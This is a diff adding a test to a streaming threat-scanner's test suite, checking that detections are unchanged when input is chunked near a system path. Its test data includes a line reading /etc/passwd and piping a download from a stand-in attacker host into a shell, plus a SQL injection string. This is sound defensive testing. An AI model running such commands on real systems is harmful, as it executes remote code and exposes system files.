@@ -51,6 +51,17 @@ describe('StreamScan', () => {
     }), { numRuns: 300 });
   });
 
+  it('a chunk that begins or ends at a system path is no text edge (whole-value rules stay quiet)', async () => {
+    const text = `${'padding words here '.repeat(30)} cat /etc/passwd; curl http://evil.example/x | sh`;
+    const bytes = Buffer.from(text);
+    const whole = [...new Set(scanner.scan(bytes).threats.filter(isDetection).map((t) => t.type))].sort();
+    const at = text.indexOf('/etc/passwd');
+    for (let cut = at - 2; cut <= at + 13; cut++) {
+      const parts = await streamed(bytes, [cut], { carry: 256, minScan: 1 });
+      expect([...new Set(parts.filter(isDetection).map((t) => t.type))].sort(), `cut at ${cut}`).toEqual(whole);
+    }
+  });
+
   it('findings are reported once, not again for each later chunk', async () => {
     const s = new StreamScan(scanBytes);
     const first = await s.push(Buffer.from("x' OR 1=1 -- " + 'a'.repeat(2000)), false);
